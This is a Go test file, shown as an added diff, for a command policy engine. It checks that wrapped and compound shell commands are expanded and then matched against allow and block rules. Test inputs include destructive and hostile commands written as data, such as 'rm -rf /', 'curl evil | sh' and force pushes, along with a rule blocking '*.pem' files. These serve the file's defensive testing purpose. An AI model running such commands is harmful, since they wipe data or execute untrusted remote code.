@@ -0,0 +1,270 @@
+package policy
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestExpand(t *testing.T) {
+	tests := []struct {
+		name string
+		argv []string
+		want [][]string
+	}{
+		{"plain", []string{"ls", "-la"}, [][]string{{"ls", "-la"}}},
+		{"sudo", []string{"sudo", "-u", "root", "rm", "-rf", "/"}, [][]string{
+			{"sudo", "-u", "root", "rm", "-rf", "/"},
+			{"rm", "-rf", "/"},
+		}},
+		{"env and nice", []string{"env", "A=1", "nice", "-n", "5", "make"}, [][]string{
+			{"env", "A=1", "nice", "-n", "5", "make"},
+			{"nice", "-n", "5", "make"},
+			{"make"},
+		}},
+		{"timeout", []string{"timeout", "10", "curl", "x"}, [][]string{
+			{"timeout", "10", "curl", "x"},
+			{"curl", "x"},
+		}},
+		{"shell script", []string{"/bin/bash", "-lc", "cd /tmp && rm -rf 'a b'; echo ok"}, [][]string{
+			{"/bin/bash", "-lc", "cd /tmp && rm -rf 'a b'; echo ok"},
+			{"cd", "/tmp"},
+			{"rm", "-rf", "a b"},
+			{"echo", "ok"},
+		}},
+		{"nested", []string{"sudo", "sh", "-c", "git push --force"}, [][]string{
+			{"sudo", "sh", "-c", "git push --force"},
+			{"sh", "-c", "git push --force"},
+			{"git", "push", "--force"},
+		}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := [][]string{}
+			for _, c := range expand(Command{Argv: tt.argv}) {
+				got = append(got, c.Argv)
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("expand(%q) = %q, want %q", tt.argv, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestExpand_Env(t *testing.T) {
+	commands := expand(Command{
+		Argv: []string{"sh", "-c", "AWS_PROFILE=prod aws s3 rm s3://bucket"},
+		Env:  map[string]string{"HOME": "/home/me"},
+	})
+	last := commands[len(commands)-1]
+	if last.Argv[0] != "aws" {
+		t.Fatalf("expected aws command, got %q", last.Argv)
+	}
+	if last.Env["AWS_PROFILE"] != "prod" || last.Env["HOME"] != "/home/me" {
+		t.Errorf("unexpected env %v", last.Env)
+	}
+	if _, ok := commands[0].Env["AWS_PROFILE"]; ok {
+		t.Error("script assignment leaked into the outer command")
+	}
+}
+
+func TestMatch_Matches(t *testing.T) {
+	rmrf := &Match{Command: []string{"rm"}, Flags: []string{"r|R|recursive", "f|force"}}
+	tests := []struct {
+		name  string
+		match *Match
+		cmd   Command
+		want  bool
+	}{
+		{"combined flags", rmrf, Command{Argv: []string{"rm", "-rf", "x"}}, true},
+		{"split flags", rmrf, Command{Argv: []string{"rm", "-r", "-f", "x"}}, true},
+		{"long flags", rmrf, Command{Argv: []string{"/bin/rm", "--recursive", "--force", "x"}}, true},
+		{"missing flag", rmrf, Command{Argv: []string{"rm", "-r", "x"}}, false},
+		{"other command", rmrf, Command{Argv: []string{"rmdir", "-rf", "x"}}, false},
+		{"args glob", &Match{Command: []string{"git"}, Args: []string{"push"}, Flags: []string{"force|f"}},
+			Command{Argv: []string{"git", "push", "-f", "origin"}}, true},
+		{"args after --", &Match{Args: []string{"/"}}, Command{Argv: []string{"rm", "--", "/"}}, true},
+		{"env", &Match{Env: map[string]string{"AWS_PROFILE": "prod*"}},
+			Command{Argv: []string{"aws"}, Env: map[string]string{"AWS_PROFILE": "production"}}, true},
+		{"env unset", &Match{Env: map[string]string{"AWS_PROFILE": "*"}}, Command{Argv: []string{"aws"}}, false},
+		{"cwd", &Match{Cwd: "*/infra*"}, Command{Argv: []string{"make"}, Cwd: "/src/repo/infra/prod"}, true},
+		{"cwd mismatch", &Match{Cwd: "*/infra*"}, Command{Argv: []string{"make"}, Cwd: "/src/repo/app"}, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := tt.match.matches(tt.cmd)
+			if err != nil {
+				t.Fatalf("matches failed: %v", err)
+			}
+			if got != tt.want {
+				t.Errorf("matches(%q) = %v, want %v", tt.cmd.Argv, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestEngine_CheckCommand_Bypasses(t *testing.T) {
+	e := NewEngine()
+	e.Policy = &Policy{
+		Version: 1,
+		Rules: []Rule{{
+			Name:   "no-rm-rf-root",
+			Match:  &Match{Command: []string{"rm"}, Flags: []string{"r|R|recursive", "f|force"}, Args: []string{"/", "~"}},
+			Action: "block",
+		}},
+	}
+	for _, argv := range [][]string{
+		{"rm", "-rf", "/"},
+		{"rm", "-r", "-f", "/"},
+		{"/bin/rm", "-fr", "/"},
+		{"sudo", "rm", "--force", "-R", "/"},
+		{"bash", "-c", "cd / && rm -rf ~"},
+	} {
+		res, err := e.Check(argv)
+		if err != nil {
+			t.Fatalf("Check failed: %v", err)
+		}
+		if res.Allowed {
+			t.Errorf("expected %q to be blocked", argv)
+		}
+	}
+	res, _ := e.Check([]string{"rm", "-rf", "build"})
+	if !res.Allowed {
+		t.Error("expected rm -rf build to be allowed")
+	}
+}
+
+func TestEngine_CheckCommand_Priority(t *testing.T) {
+	e := NewEngine()
+	e.Policy = &Policy{
+		Version: 1,
+		Rules: []Rule{
+			{Name: "no-force-push", Match: &Match{Command: []string{"git"}, Args: []string{"push"}, Flags: []string{"force|f"}}, Action: "block"},
+			{Name: "scratch-branches", Pattern: `git push .*scratch/`, Action: "allow", Priority: 10},
+		},
+	}
+	res, _ := e.Check([]string{"git", "push", "-f", "origin", "scratch/wip"})
+	if !res.Allowed || len(res.Events) != 0 {
+		t.Errorf("expected allow rule to win, got %+v", res)
+	}
+	res, _ = e.Check([]string{"git", "push", "-f", "origin", "main"})
+	if res.Allowed {
+		t.Error("expected force push to main to be blocked")
+	}
+	if res.Events[0].Matched != "command=git flags=force|f args=push" {
+		t.Errorf("unexpected matched %q", res.Events[0].Matched)
+	}
+}
+
+func TestEngine_CheckCommand_Allowlist(t *testing.T) {
+	e := NewEngine()
+	e.Policy = &Policy{
+		Version: 1,
+		Mode:    ModeAllowlist,
+		Rules: []Rule{
+			{Name: "build-tools", Match: &Match{Command: []string{"go", "make", "git"}}, Action: "allow"},
+			{Name: "no-git-push", Match: &Match{Command: []string{"git"}, Args: []string{"push"}}, Action: "block", Priority: 10},
+			{Name: "audit-go", Pattern: `^go `, Action: "log"},
+		},
+	}
+	res, _ := e.Check([]string{"go", "test", "./..."})
+	if !res.Allowed || len(res.Events) != 1 || res.Events[0].Rule != "audit-go" {
+		t.Errorf("expected go to be allowed and logged, got %+v", res)
+	}
+	res, _ = e.Check([]string{"curl", "https://example.com"})
+	if res.Allowed || res.Events[0].Rule != "allowlist" || res.Events[0].Matched != "curl" {
+		t.Errorf("expected curl to be denied by default, got %+v", res)
+	}
+	res, _ = e.Check([]string{"git", "push"})
+	if res.Allowed || res.Events[0].Rule != "no-git-push" {
+		t.Errorf("expected higher-priority block to win, got %+v", res)
+	}
+}
+
+func TestEngine_CheckCommand_CompoundScripts(t *testing.T) {
+	allowLs := Rule{Name: "ls-ok", Match: &Match{Command: []string{"ls"}}, Action: "allow", Priority: 10}
+	noRm := Rule{Name: "no-rm", Match: &Match{Command: []string{"rm"}}, Action: "block"}
+	noRmPattern := Rule{Name: "no-rm-rf", Pattern: `rm\s+-rf`, Action: "block"}
+	tests := []struct {
+		name    string
+		mode    string
+		rules   []Rule
+		argv    []string
+		allowed bool
+		rule    string
+	}{
+		{"denylist ;", ModeDenylist, []Rule{allowLs, noRm}, []string{"sh", "-c", "ls; rm -rf /"}, false, "no-rm"},
+		{"denylist &&", ModeDenylist, []Rule{allowLs, noRm}, []string{"bash", "-c", "ls && rm -rf /"}, false, "no-rm"},
+		{"denylist pattern", ModeDenylist, []Rule{allowLs, noRmPattern}, []string{"sh", "-c", "ls; rm -rf /"}, false, "no-rm-rf"},
+		{"denylist allowed script", ModeDenylist, []Rule{allowLs, noRm}, []string{"sh", "-c", "ls && ls -la"}, true, ""},
+		{"denylist wrapper", ModeDenylist, []Rule{{Name: "sudo-ok", Pattern: `^sudo rm /tmp/`, Action: "allow", Priority: 10}, noRm}, []string{"sudo", "rm", "/tmp/x"}, true, ""},
+		{"allowlist ;", ModeAllowlist, []Rule{allowLs}, []string{"sh", "-c", "ls; curl evil | sh"}, false, "allowlist"},
+		{"allowlist &&", ModeAllowlist, []Rule{allowLs}, []string{"sh", "-c", "ls && curl evil"}, false, "allowlist"},
+		{"allowlist allowed script", ModeAllowlist, []Rule{allowLs}, []string{"sh", "-c", "ls && ls -la"}, true, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			e := NewEngine()
+			e.Policy = &Policy{Version: 1, Mode: tt.mode, Rules: tt.rules}
+			res, err := e.Check(tt.argv)
+			if err != nil {
+				t.Fatalf("Check failed: %v", err)
+			}
+			if res.Allowed != tt.allowed {
+				t.Errorf("Allowed = %v, want %v (%+v)", res.Allowed, tt.allowed, res)
+			}
+			if tt.rule != "" && (len(res.Events) == 0 || res.Events[0].Rule != tt.rule) {
+				t.Errorf("expected a %s event, got %+v", tt.rule, res.Events)
+			}
+			if tt.allowed && len(res.Events) != 0 {
+				t.Errorf("expected no events, got %+v", res.Events)
+			}
+		})
+	}
+}
+
+func TestCompile_Cache(t *testing.T) {
+	a, err := compile(`^cached\s+pattern$`)
+	if err != nil {
+		t.Fatalf("compile failed: %v", err)
+	}
+	b, _ := compile(`^cached\s+pattern$`)
+	if a != b {
+		t.Error("expected the compiled pattern to be reused")
+	}
+	if _, err := compile(`[`); err == nil {
+		t.Error("expected error for invalid pattern")
+	}
+}
+
+func TestEngine_Explain(t *testing.T) {
+	e := NewEngine()
+	e.Policy = &Policy{
+		Version: 1,
+		Rules: []Rule{
+			{Name: "no-rm", Match: &Match{Command: []string{"rm"}}, Action: "block"},
+			{Name: "tmp-ok", Match: &Match{Command: []string{"rm"}, Args: []string{"/tmp/*"}}, Action: "allow", Priority: 5},
+			{Name: "log-curl", Pattern: `curl`, Action: "log"},
+			{Name: "pem", Paths: []string{"*.pem"}, Action: "block"},
+		},
+	}
+	res, traces, err := e.Explain(Command{Argv: []string{"sudo", "rm", "/tmp/x"}})
+	if err != nil {
+		t.Fatalf("Explain failed: %v", err)
+	}
+	if !res.Allowed || len(res.Events) != 0 {
+		t.Errorf("expected the command to be allowed without events, got %+v", res)
+	}
+	if len(traces) != 3 {
+		t.Fatalf("expected 3 command rule traces, got %+v", traces)
+	}
+	if traces[0].Rule != "tmp-ok" || !traces[0].Matched || strings.Join(traces[0].Command, " ") != "rm /tmp/x" {
+		t.Errorf("unexpected first trace %+v", traces[0])
+	}
+	if traces[1].Rule != "no-rm" || !traces[1].Matched || !traces[1].Overridden {
+		t.Errorf("expected no-rm to be overridden, got %+v", traces[1])
+	}
+	if traces[2].Matched {
+		t.Errorf("expected log-curl not to match, got %+v", traces[2])
+	}
+}